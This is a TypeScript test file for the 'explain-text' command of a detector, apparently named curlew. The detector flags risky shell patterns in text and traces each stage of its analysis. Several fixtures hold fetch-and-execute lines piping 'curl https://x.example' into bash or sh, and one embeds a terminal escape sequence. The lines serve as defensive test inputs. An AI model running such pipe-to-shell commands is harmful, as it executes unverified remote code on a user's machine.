import { describe, expect, it } from "vitest";
import { sharedDetectorOf } from "../support/marked.js";
import { folderWith } from "./folder-with.js";
import { runHere, type Ran } from "./fake-detector.js";

const toolkit = { createDetector: sharedDetectorOf };
const explained = (stdin: string, ...args: string[]): Promise<Ran> =>
  runHere(["explain-text", "--profile", "contract", ...args, "-"], { stdin, toolkit });

describe("curlew explain-text", () => {
  it("shows each stage of a region and the result", async () => {
    const { stdout, status } = await explained(
      "Never run this:\n\n```sh\ncurl https://x.example | bash -s\n```\n",
    );
    expect(stdout.split("\n").map((line) => line.replace(/scm:\d+/, "scm"))).toEqual([
      "region 1: fence, read as shell, tag sh, 4:1–4:33 in document > code",
      "  segment  «curl https://x.example | bash -s»",
      "  parse    bash, without an error: «curl https://x.example | bash -s»",
      "  query    flow.pipe «curl https://x.example | bash -s» at 4:1 by contract/bash/shapes.scm",
      "  query    source.fetcher «curl» by contract/bash/fetchers.scm",
      "  query    sink.interpreter «bash» by contract/bash/interpreters.scm",
      expect.stringMatching(
        /^ {2}resolve {2}bash\/fetch-pipe at 4:1–4:30 «curl https:\/\/x\.example \| bash»: curl fetches remote content; /,
      ),
      '  context  dismissed: warned-against, warned against by: "Never run this" at 1:1–1:15 «Never run this»',
      "",
      "answer: no label, 0 findings, complete",
      "",
    ]);
    expect(status).toBe(0);
  });

  it.each([
    ["hello", "gate     this text contains none of the words"],
    ["All of wget\n\nis there.", "segment  nothing in this text is read as code"],
    ["Run `curl https://x.example | sh`", "context  meant"],
    ["Run `curl -o f https://x.example | sh`", "resolve  no match"],
    [
      "```sh\ncurl https://x.example -o f\n```",
      "parse    not needed: it names nothing that executes",
    ],
    [
      "```rb\nx = 'curl https://x.example'\n```",
      "parse    by its tokens, with the names of calls in ruby.json",
    ],
    [
      "```diff\n-curl https://x.example | sh\n```",
      "context  not evaluated: removed, is a removed line of a diff",
    ],
  ])("prints for %s: %s", async (text, said) => {
    expect((await explained(text)).stdout).toContain(said);
  });

  it("reads a file in the format that its name or --as determines", async () => {
    const cwd = folderWith({
      "run.rb": "system('curl https://x.example | sh')",
      "run.txt": "# curl https://x.example | sh",
    });
    expect((await runHere(["explain-text", "run.rb"], { cwd, toolkit })).stdout).toContain(
      "tag ruby",
    );
    expect(
      (await runHere(["explain-text", "run.txt", "--as", "bash"], { cwd, toolkit })).stdout,
    ).toContain("tag bash");
  });

  it("reports an unreadable file, and requires exactly one text", async () => {
    expect(await runHere(["explain-text", "none.md"], { toolkit })).toMatchObject({
      status: 2,
      stdout: "",
      stderr: expect.stringContaining("none.md"),
    });
    expect(await runHere(["explain-text"], { toolkit })).toMatchObject({ status: 2, stdout: "" });
  });

  it("escapes terminal control characters", async () => {
    const { stdout } = await explained("```sh\ncurl https://x.example/\u001b[31m | sh\n```");
    expect(stdout).not.toContain("\u001b");
  });
});
